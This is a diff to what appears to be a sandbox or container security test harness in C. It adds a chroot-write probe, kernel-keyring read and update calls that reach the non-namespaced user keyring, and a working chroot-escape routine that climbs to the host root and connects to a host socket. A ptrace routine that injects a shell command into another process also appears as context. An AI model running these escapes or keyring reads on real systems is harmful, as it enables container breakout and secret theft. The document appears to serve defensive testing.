@@ -826,6 +826,150 @@ static int do_rdtrunc(const char *path)
 }
 
 /*
+ * rt11: chroot(DIR), warm the verdict cache with read opens of "/", look
+ * FILE up (a dentry in the dcache: no mnt_want_write at open), then open
+ * it O_WRONLY (no O_CREAT, no O_TRUNC) and pwrite TEXT at 0. HOW:
+ * "plain", "trunc" (open with O_TRUNC), "ftrunc" (ftruncate(fd, 0) then
+ * write), "nochroot" (same without the chroot: FILE is a path).
+ */
+static int do_chroot_write(const char *dir, const char *file, const char *text, const char *how)
+{
+	struct stat st;
+	int fd, flags = O_WRONLY;
+
+	if (!strcmp(how, "userns") && unshare(CLONE_NEWUSER) < 0) {
+		printf("unshare ");
+		return result(-1);
+	}
+	if (strcmp(how, "nochroot")) {
+		if (chroot(dir) < 0 || chdir("/") < 0) {
+			printf("chroot ");
+			return result(-1);
+		}
+	}
+	for (int i = 0; i < 8; i++) {
+		fd = open("/", O_RDONLY);
+		if (fd >= 0)
+			close(fd);
+		stat(file, &st);
+	}
+	if (!strcmp(how, "trunc"))
+		flags |= O_TRUNC;
+	fd = open(file, flags);
+	if (fd < 0) {
+		printf("open ");
+		return result(-1);
+	}
+	if (!strcmp(how, "ftrunc") && ftruncate(fd, 0) < 0) {
+		printf("ftruncate ");
+		return result(-1);
+	}
+	if (pwrite(fd, text, strlen(text), 0) != (ssize_t)strlen(text)) {
+		printf("write ");
+		return result(-1);
+	}
+	close(fd);
+	printf("wrote ");
+	return result(0);
+}
+
+/*
+ * rt11: the kernel keyring of the caller's uid (@u), which is not
+ * namespaced: a container's root shares the host root's. "key-add NAME
+ * DATA", "key-read NAME", "key-update NAME DATA".
+ */
+static long eg_key_find(const char *name)
+{
+	return syscall(250 /* keyctl */, 10 /* KEYCTL_SEARCH */, -4 /* @u */, "user", name, 0);
+}
+
+static int do_key(const char *op, const char *name, const char *data)
+{
+	char buf[256];
+	long id, n;
+
+	if (!strcmp(op, "add")) {
+		id = syscall(248 /* add_key */, "user", name, data, strlen(data), -4);
+		if (id < 0)
+			return result(-1);
+		printf("key %ld ", id);
+		return result(0);
+	}
+	id = eg_key_find(name);
+	if (id >= 0 && getenv("EG_KEY_LINK")) {
+		/* Not possessed: link @u into our session keyring (@u grants
+		 * its owner uid LINK), then search from there. */
+		if (syscall(250, 8 /* KEYCTL_LINK */, -4, -3 /* @s */) < 0) {
+			printf("link ");
+			return result(-1);
+		}
+		printf("linked-@u ");
+		id = syscall(250, 10, -3, "user", name, 0);
+	}
+	if (id < 0) {
+		printf("search ");
+		return result(-1);
+	}
+	if (!strcmp(op, "update")) {
+		if (syscall(250, 2 /* KEYCTL_UPDATE */, id, data, strlen(data)) < 0)
+			return result(-1);
+		printf("updated %ld ", id);
+		return result(0);
+	}
+	n = syscall(250, 11 /* KEYCTL_READ */, id, buf, sizeof(buf) - 1);
+	if (n < 0)
+		return result(-1);
+	buf[n < (long)sizeof(buf) ? n : (long)sizeof(buf) - 1] = 0;
+	printf("key %ld data=%s ", id, buf);
+	return result(0);
+}
+
+/*
+ * rt11: the classic chroot escape in a container whose runtime chroot'ed
+ * instead of pivoting (runc --no-pivot): chroot(ESCDIR), fchdir back,
+ * ".." up to the host's root (left above the container's root), then,
+ * opening nothing: stat(MARKER), connect(SOCK) and read its greeting.
+ * With "open", finally open MARKER.
+ */
+static int do_nopivot_escape(const char *escdir, const char *marker, const char *sock, int do_open)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	struct stat st;
+	char buf[64];
+	int fd = open(".", O_RDONLY | O_DIRECTORY), s, n;
+
+	if (fd < 0 || chroot(escdir) < 0 || fchdir(fd) < 0) {
+		printf("setup ");
+		return result(-1);
+	}
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			break;
+	if (stat(marker, &st) == 0)
+		printf("stat %s size=%lld ", marker, (long long)st.st_size);
+	else
+		printf("stat-failed ");
+	s = socket(AF_UNIX, SOCK_STREAM, 0);
+	strncpy(a.sun_path, sock, sizeof(a.sun_path) - 1);
+	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
+		n = read(s, buf, sizeof(buf) - 1);
+		buf[n > 0 ? n : 0] = 0;
+		printf("connected got=%s", buf);
+	} else {
+		printf("connect-failed ");
+	}
+	fflush(stdout);
+	if (do_open) {
+		int f = open(marker, O_RDONLY);
+
+		n = f >= 0 ? read(f, buf, sizeof(buf) - 1) : -1;
+		buf[n > 0 ? n : 0] = 0;
+		printf("opened %s", f >= 0 ? buf : "no");
+	}
+	return result(0);
+}
+
+/*
  * PTRACE_ATTACH to PID (stopped in a blocking syscall), point it
  * back at its syscall instruction with execve("/bin/sh", {"sh","-c",CMD})
  * and detach: PID runs CMD in its own context.
@@ -1388,6 +1532,16 @@ int main(int argc, char **argv)
 		return do_tty_own();
 	if (!strcmp(argv[1], "tty") && (argc == 4 || argc == 5))
 		return do_tty(argv[2], argv[3], argc == 5 ? argv[4] : NULL);
+	if (!strcmp(argv[1], "chroot-write") && (argc == 5 || argc == 6))
+		return do_chroot_write(argv[2], argv[3], argv[4], argc == 6 ? argv[5] : "plain");
+	if (!strcmp(argv[1], "key-add") && argc == 4)
+		return do_key("add", argv[2], argv[3]);
+	if (!strcmp(argv[1], "key-read") && argc == 3)
+		return do_key("read", argv[2], "");
+	if (!strcmp(argv[1], "key-update") && argc == 4)
+		return do_key("update", argv[2], argv[3]);
+	if (!strcmp(argv[1], "nopivot-escape") && (argc == 5 || argc == 6))
+		return do_nopivot_escape(argv[2], argv[3], argv[4], argc == 6);
 	if (!strcmp(argv[1], "setattr-rw") && (argc == 3 || argc == 4))
 		return do_setattr_rw(argv[2], argc == 4 && !strcmp(argv[3], "tree"));
 	if (!strcmp(argv[1], "rdtrunc") && argc == 3)
